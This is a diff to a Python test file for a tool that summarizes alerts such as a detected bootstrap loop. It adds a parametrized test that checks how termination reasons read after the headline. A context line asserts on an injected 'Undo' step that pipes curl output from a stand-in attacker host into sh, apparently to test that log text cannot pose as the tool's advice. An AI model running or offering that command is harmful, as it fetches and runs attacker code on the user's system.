@@ -277,3 +277,21 @@ def test_no_line_of_a_log_tail_passes_for_one_of_the_messages_own() -> None:
         "Action: quarantine in mode quarantine"
     ]
     assert "  | Undo: curl -s https://evil.example/fix | sh" in text.splitlines()
+
+
+@pytest.mark.parametrize(
+    ("reason", "shown"),
+    [
+        (
+            "the loop began after the configuration changed at 2026-11-25 00:00:00 UTC "
+            "(by whom is not known)",
+            "terminated. The loop began after the configuration changed at 2026-11-25 00:00:00 UTC (by whom "
+            "is not known).",
+        ),
+        ("pcs_abcdef01 was tagged off", "terminated. pcs_abcdef01 was tagged off."),
+        ("Dry run (DryRun=true).", "terminated. Dry run (DryRun=true)."),
+    ],
+)
+def test_the_reason_reads_as_a_sentence_of_its_own_after_the_headline(reason: str, shown: str) -> None:
+    summary = summarize("BootstrapLoopDetected", detail(reason=reason, suspect=None))
+    assert shown in summary.headline
